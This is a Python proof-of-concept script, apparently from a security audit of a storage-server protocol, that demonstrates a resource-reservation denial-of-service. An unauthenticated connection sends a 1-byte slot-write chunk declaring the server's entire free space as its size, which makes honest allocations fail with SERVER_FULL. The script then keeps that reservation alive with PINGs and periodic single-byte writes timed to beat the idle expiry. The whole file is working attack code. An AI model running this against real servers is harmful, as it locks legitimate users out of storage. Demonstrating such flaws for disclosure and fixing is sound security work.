"""One connection, no key, no valid share: a 1-byte WRITE_SLOT_SHARE chunk declaring
totalSize = the server's free space reserves all of it (the front check waits for 239 bytes).
Honest ALLOCATEs from another node id then get SERVER_FULL. The attacker keeps it alive with
PINGs (idle timeout 2 min) and 1 more byte every 9 min (idle-write expiry 10 min): 238 bytes
last 35 h, then restart at offset 0.
usage: a3_reserve_lockout.py [seconds_to_hold]
"""
import os, struct, sys, time
from cairnlib import *

hold = int(sys.argv[1]) if len(sys.argv) > 1 else 30
att = Conn(identity=make_identity("attacker"))
info = server_info(att)
print("before:", info)
si = os.urandom(16); R = os.urandom(32)
total = info["free"]
t, b = att.call(WSLOT, wslot_body(si, 0, R, R, total, 0, b"C"))
print("attacker 1-byte slot chunk of", total, "->", describe(t, b))
print("after:", server_info(att))

honest = Conn(identity=make_identity("honest"))
def honest_try():
    t, b = honest.call(ALLOC, alloc_body(os.urandom(16), os.urandom(32), os.urandom(32), 100_000, [0]))
    return describe(t, b)
print("honest 100 kB allocate ->", honest_try())
start = time.time(); nxt = 1; off = 1
while time.time() - start < hold:
    time.sleep(5)
    att.call(PING)
    if time.time() - start > nxt * 60:  # demo: a byte a minute (9 min is enough)
        t, b = att.call(WSLOT, wslot_body(si, 0, R, R, total, off, b"M")); off += 1; nxt += 1
        print("  attacker +1 byte ->", describe(t, b))
print(f"after {hold}s honest allocate ->", honest_try())
